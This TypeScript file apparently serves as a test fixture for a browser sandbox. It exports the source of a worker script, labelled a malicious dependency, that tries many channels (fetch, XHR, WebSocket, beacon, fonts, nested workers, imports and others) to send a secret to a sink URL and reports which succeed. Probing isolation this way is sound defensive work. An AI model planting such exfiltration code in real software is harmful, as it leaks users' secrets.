/**
 * A malicious dependency: the text of a worker's script that tries every channel to the sink, with
 * what it has seen in the address. It says each channel that did not throw as it is found, and all
 * of them at the end.
 */
export const ATTACK: string = String.raw`
self.onmessage = async ({ data: { http, ws, secret, own } }) => {
  const at = (channel) => http + channel + "?" + secret;
  const tried = {
    fetch: () => fetch(at("fetch")),
    noCors: () => fetch(at("no-cors"), { mode: "no-cors", method: "POST", body: secret }),
    keepalive: () => fetch(at("keepalive"), { keepalive: true, mode: "no-cors" }),
    xhr: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = reject;
      request.open("GET", at("xhr"));
      request.send();
    }),
    webSocket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket(ws + "web-socket?" + secret);
      socket.onopen = resolve;
      socket.onerror = socket.onclose = reject;
    }),
    eventSource: () => new Promise((resolve, reject) => {
      const events = new EventSource(at("event-source"));
      events.onopen = resolve;
      events.onerror = reject;
    }),
    webTransport: async () => { await new WebTransport(at("web-transport")).ready; },
    cache: async () => (await caches.open("x")).add(at("cache")),
    font: () => new FontFace("x", "url(" + at("font") + ")").load(),
    beacon: async () => { if (!navigator.sendBeacon(at("beacon"), secret)) throw 1; },
    reload: async () => { self.location.href = at("navigate"); throw 1; },
    data: () => fetch("data:,x"),
    blob: () => fetch(URL.createObjectURL(new Blob([secret]))),
    evalCode: async () => new Function("return 1")(),
  };
  // Each in its turn: Firefox may block a worker for good that makes a worker, or loads a script,
  // while it imports a module.
  const modules = { import: () => import(at("import")) };
  const workers = {
    urlWorker: () => workerOf(at("worker")),
    ownWorker: () => workerOf(own + "?" + secret),
    blobWorker: () => workerOf(URL.createObjectURL(new Blob([
      "fetch(" + JSON.stringify(at("blob-worker")) + ").then(() => postMessage(1), () => { throw 1; })",
    ]))),
    dataWorker: () => workerOf("data:text/javascript," + encodeURIComponent(
      "fetch(" + JSON.stringify(at("data-worker")) + ").then(() => postMessage(1), () => { throw 1; })",
    )),
  };
  const open = [];
  for (const kind of [tried, modules, workers]) {
    await Promise.all(Object.entries(kind).map(async ([name, attempt]) => {
      postMessage({ trying: name });
      try {
        await Promise.race([attempt(), new Promise((_, reject) => setTimeout(reject, 4000))]);
        open.push(name);
        postMessage({ found: name });
      } catch {}
    }));
  }
  // Last: it blocks this thread.
  try {
    importScripts(at("import-scripts"));
    open.push("importScripts");
  } catch {}
  const root = await navigator.storage?.getDirectory?.().then(() => true, (error) => String(error));
  postMessage({ open, root, gpu: "gpu" in navigator });
};
function workerOf(url) {
  return new Promise((resolve, reject) => {
    const worker = new Worker(url);
    worker.onmessage = resolve;
    worker.onerror = reject;
  });
}
`;
